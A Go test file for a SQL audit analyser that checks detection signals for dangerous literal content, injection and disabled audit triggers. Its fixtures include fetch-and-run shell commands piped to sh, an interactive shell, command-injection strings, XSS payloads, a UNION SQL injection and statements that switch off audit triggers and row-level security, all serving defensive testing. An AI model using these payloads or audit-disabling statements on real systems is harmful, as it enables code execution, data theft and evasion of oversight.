package statement

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/auditwarden/auditwarden/pipeline"
)

func TestContents(t *testing.T) {
	tests := []struct {
		sql     string
		signals []string // of the two that literals' content decides
	}{
		{"INSERT INTO jobs (cmd) VALUES ('curl http://10.0.0.9/x | sh')", []string{"os_command_text"}},
		{"UPDATE jobs SET cmd = 'powershell -enc SQBFAFgA' WHERE id = 3", []string{"os_command_text"}},
		{"SELECT run('bash -c \"id\"')", []string{"os_command_text"}},
		{"SELECT run('a; whoami')", []string{"os_command_text"}},
		{"SELECT run('x && nslookup a.example')", []string{"os_command_text"}},
		{"CREATE TABLE x (a text DEFAULT '/bin/sh -i')", []string{"os_command_text"}},
		{"INSERT INTO books (title) VALUES ('Mastering PowerShell, and curl')", nil},
		{"INSERT INTO books (title) VALUES ('The bash cookbook (2nd edition)')", nil},
		{"INSERT INTO notes (body) VALUES ('Who am I; a wget of ideas, fresh content')", nil},
		{"INSERT INTO hosts (path) VALUES ('/usr/share/doc/index.html')", nil},
		{"INSERT INTO notes (body) VALUES ('<script>fetch(1)</script>')", []string{"script_markup"}},
		{"UPDATE notes SET body = '<img src=x onerror=alert(1)>' WHERE id = 1", []string{"script_markup"}},
		{"UPDATE notes SET body = '<svg/onload=alert(1)>' WHERE id = 1", []string{"script_markup"}},
		{"UPDATE notes SET url = 'javascript:alert(1)' WHERE id = 1", []string{"script_markup"}},
		{"SELECT id FROM notes WHERE body = '<script>x()</script>'", nil},
		{"UPDATE notes SET body = '<p class=\"one\">a < b, on = off</p>' WHERE id = 1", nil},
		{"UPDATE notes SET body = 'JavaScript: the good parts' WHERE id = 1", nil},
		{"INSERT INTO notes (body) VALUES ('<script>a()</script> curl http://x/ | sh')", []string{"script_markup", "os_command_text"}},
	}
	a := New(Config{}, Options{})
	pick := func(st *pipeline.Statement) []string {
		return slices.DeleteFunc(st.SignalNames(), func(s string) bool { return s != "os_command_text" && s != "script_markup" })
	}
	for _, engine := range engines2 {
		for _, tt := range tests {
			for range 2 { // the second time the shape comes from the cache
				if got := pick(a.Statement(engine, tt.sql)); !slices.Equal(got, tt.signals) {
					t.Errorf("%s: %s: signals %v, want %v", engine, tt.sql, got, tt.signals)
				}
			}
		}
	}
	e := pipeline.Event{Engine: pipeline.PostgreSQL, Statement: "INSERT INTO notes (body) VALUES ($1)", Parameters: []string{"<script>a()</script>"}}
	a.Analyse(&e)
	if got := pick(e.SQL); !slices.Equal(got, []string{"script_markup"}) {
		t.Errorf("of a parameter: %v", got)
	}
}

// A payload that stayed inside its literal weighs less than one that got out.
func TestLoneLiteralWeighsLess(t *testing.T) {
	a := New(Config{}, Options{})
	for _, engine := range engines2 {
		in := a.Statement(engine, "SELECT a FROM t WHERE b = 'x'' UNION SELECT NULL,NULL-- ' AND c = 'y'")
		out := a.Statement(engine, "SELECT a FROM t WHERE b = 'x' UNION SELECT NULL,NULL-- ' AND c = 'y'")
		if !in.Suspicious || in.Score >= out.Score {
			t.Errorf("%s: %.3f in the literal, %.3f outside", engine, in.Score, out.Score)
		}
	}
}

func TestTriggersSwitchedOff(t *testing.T) {
	tests := []struct {
		engine pipeline.Engine
		sql    string
		want   string
	}{
		{pipeline.PostgreSQL, "ALTER EVENT TRIGGER audit_ddl DISABLE", "trigger_disable"},
		{pipeline.PostgreSQL, "ALTER EVENT TRIGGER audit_ddl ENABLE REPLICA", "trigger_disable"},
		{pipeline.PostgreSQL, "ALTER TABLE pay DISABLE TRIGGER ALL", "trigger_disable"},
		{pipeline.PostgreSQL, "ALTER TABLE pay DISABLE TRIGGER audit_pay", "trigger_disable"},
		{pipeline.PostgreSQL, "ALTER TABLE pay DISABLE RULE r", "trigger_disable"},
		{pipeline.PostgreSQL, "DROP TRIGGER audit_pay ON pay", "trigger_disable"},
		{pipeline.PostgreSQL, "DROP EVENT TRIGGER audit_ddl", "trigger_disable"},
		{pipeline.PostgreSQL, "SET session_replication_role = replica", "trigger_disable"},
		{pipeline.PostgreSQL, "SELECT set_config('session_replication_role', 'replica', false)", "trigger_disable"},
		{pipeline.PostgreSQL, "ALTER SYSTEM SET event_triggers = off", "trigger_disable"},
		{pipeline.PostgreSQL, "ALTER TABLE pay DISABLE ROW LEVEL SECURITY", "rls_disabled"},
		{pipeline.PostgreSQL, "ALTER TABLE pay NO FORCE ROW LEVEL SECURITY", "rls_disabled"},
		{pipeline.MySQL, "DROP TRIGGER audit_pay", "trigger_disable"},
		{pipeline.MariaDB, "ALTER EVENT purge DISABLE", "trigger_disable"},
	}
	harmless := []string{
		"ALTER EVENT TRIGGER audit_ddl ENABLE ALWAYS", "ALTER TABLE pay ENABLE TRIGGER ALL", "SET session_replication_role = origin",
		"RESET session_replication_role", "ALTER TABLE pay ENABLE ROW LEVEL SECURITY",
	}
	a := New(Config{}, Options{})
	for _, tt := range tests {
		if st := a.Statement(tt.engine, tt.sql); !st.HasSignal(tt.want) {
			t.Errorf("%s: %v", tt.sql, st.SignalNames())
		}
	}
	for _, sql := range harmless {
		if st := a.Statement(pipeline.PostgreSQL, sql); st.HasSignal("trigger_disable") || st.HasSignal("rls_disabled") {
			t.Errorf("%s: %v", sql, st.SignalNames())
		}
	}
}

// Case, and what stands around, do not hide what a literal holds.
func TestContentsUnderChanges(t *testing.T) {
	a := New(Config{}, Options{})
	for name, texts := range map[string][]string{
		"os_command_text": {"curl http://x/a | sh", "bash -c id", "x; whoami", "powershell -enc AAAA", "/bin/sh -i"},
		"script_markup":   {"<script>a()</script>", "<img src=x onerror=a()>", "javascript:alert(1)", "<svg/onload=a()>"},
	} {
		for _, text := range texts {
			for _, form := range []string{
				"INSERT INTO t (a) VALUES ('%s')", "insert  into t (a)\nvalues /* x */ ('%s')", "UPDATE t SET a = ('%s') WHERE b = 1",
				"INSERT INTO t (a) VALUES ('before %s')", "INSERT INTO t (a) VALUES ('%s after')", "INSERT INTO t (a) SELECT '%s' FROM u",
			} {
				for _, body := range []string{text, strings.ToUpper(text)} {
					sql := fmt.Sprintf(form, body)
					for _, engine := range engines2 {
						if st := a.Statement(engine, sql); !st.HasSignal(name) {
							t.Errorf("%s: no %s in %s", engine, name, sql)
						}
					}
				}
			}
		}
	}
}
